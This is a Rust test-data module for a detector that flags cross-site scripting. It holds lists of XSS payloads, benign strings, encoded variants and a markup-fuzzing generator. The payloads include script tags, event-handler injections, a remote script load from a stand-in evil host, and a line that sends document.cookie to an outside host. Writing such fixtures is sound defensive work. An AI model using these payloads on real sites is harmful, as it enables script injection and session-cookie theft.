// SPDX-FileCopyrightText: 2025 Hyperpolymath
// SPDX-License-Identifier: Apache-2.0

//! Test data generators for attack simulation.
//!
//! Every attack payload and benign text fits the default 10 to 50 character
//! window so that it reaches the detector.

/// Classic XSS payloads the detector must flag.
pub fn xss_payloads() -> Vec<&'static str> {
    vec![
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<ScRiPt>prompt(1)</sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(document.domain)>",
        "<body onload=alert('xss')>",
        "<iframe src=javascript:alert(1)>",
        "<a href=\"javascript:void(0)\">click</a>",
        "<object data=evil.swf></object>",
        "<embed src=evil.swf>",
        "<marquee onstart=alert(1)>hi</marquee>",
        "<input autofocus onfocus=alert(1)>",
        "<div onmouseover=\"steal()\">hover</div>",
        "<details open ontoggle=alert(1)>",
        "<p>hi</p><script>x()</script>",
        "javascript:eval(atob('YWxlcnQoMSk='))",
        "fetch('//x.example?c='+document.cookie)",
        "eval(String.fromCharCode(97,108))",
        "text onerror = oops",
    ]
}

/// Ordinary texts that must pass detection.
pub fn benign_texts() -> Vec<&'static str> {
    vec![
        "Hello world, valid!",
        "Meeting moved to Thursday at 10:30",
        "Remember to buy milk and eggs",
        "Café con leche, por favor",
        "Ship it on Friday, not Monday",
        "Email me at someone@example.com",
        "I evaluated the options carefully",
        "Please alert the team before noon",
        "Numbers: 1 < 2 and 3 > 2",
        "The <b>bold</b> choice",
    ]
}

/// Encoded payloads the detector does not decode.
pub fn encoded_payloads() -> Vec<&'static str> {
    vec![
        "&lt;script&gt;alert&#40;1&#41;",
        "%3Cscript%3Ealert%281%29",
        "\\u003cscript\\u003e payload",
    ]
}

/// Fragments mixed into generated sanitizer inputs.
const FRAGMENTS: &[&str] = &[
    "<", ">", "b", "<i>", "</i>", " ", "\"", "'", "x=", "<!--", "-->", "<style>", "</style>",
    "ñ", "text", "<a href='>'>", "</", "<!doctype html>", "<?pi?>", "\t",
];

/// Deterministic pseudo-random markup soup.
pub fn markup_soup(count: usize) -> Vec<String> {
    (0..count)
        .map(|i| {
            let len = 1 + (i * 7) % 12;
            (0..len)
                .map(|j| FRAGMENTS[(i * 31 + j * 17 + (i ^ j)) % FRAGMENTS.len()])
                .collect::<String>()
        })
        .collect()
}
